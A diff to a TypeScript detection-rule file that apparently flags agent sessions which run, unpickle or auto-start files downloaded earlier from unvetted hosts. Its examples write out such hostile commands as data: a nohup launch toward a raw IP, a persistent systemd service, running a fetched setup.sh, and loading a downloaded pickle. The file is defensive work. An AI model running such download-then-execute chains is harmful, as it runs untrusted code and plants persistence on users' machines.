@@ -421,7 +421,7 @@ export const SESSION_PROGRESSION_RULES: readonly Rule[] = [
   },
   {
     id: 'PX-CHAIN-012', name: 'fetched-program-run-later', score: 60, tactic: 'execution', technique: 'T1204.002',
-    message: 'Runs, or sets to start automatically, a program the session downloaded earlier from a host that is not a vetted source',
+    message: 'Runs, unpickles, or sets to start automatically, a program or file the session downloaded earlier from a host that is not a vetted source',
     why: 'Fetching, marking executable, running and installing a service in separate calls is a dropper taken apart so that no single call shows it; the file links the calls.',
     alternative: 'Install tools from a package manager or the vendor\'s release page, and check the download\'s signature or checksum.',
     check: fetchedThenRun,
@@ -430,6 +430,7 @@ export const SESSION_PROGRESSION_RULES: readonly Rule[] = [
         { call: 'nohup ~/.local/bin/otel-agent --endpoint 185.212.47.33:4317 >/dev/null 2>&1 &', context: after({ targets: [artifactTarget('fetched', '~/.local/bin/otel-agent')] }) },
         { call: { Filesystem: { operation: 'Write', path: '/home/dev/.config/systemd/user/otel-agent.service', content: '[Service]\nExecStart=%h/.local/bin/otel-agent --endpoint 185.212.47.33:4317\nRestart=always\n' } }, context: after({ targets: [artifactTarget('fetched', '~/.local/bin/otel-agent')] }) },
         { call: 'bash /tmp/setup.sh', context: after({ targets: [artifactTarget('fetched', '/tmp/setup.sh')] }) },
+        { call: `python -c "import joblib; te=joblib.load('/tmp/te_v3.pkl'); print(type(te))"`, context: after({ targets: [artifactTarget('fetched', '/tmp/te_v3.pkl')] }) },
       ],
       quiet: [{ call: '/tmp/codecov/codecov --version', context: sessionAfter([{ ago: 60_000, targets: [artifactTarget('fetched', '/tmp/codecov/codecov')] }, { ago: 30_000, targets: [artifactTarget('verified', '/tmp/codecov')] }]) }, 
         'nohup ~/.local/bin/otel-agent --endpoint 185.212.47.33:4317 >/dev/null 2>&1 &',
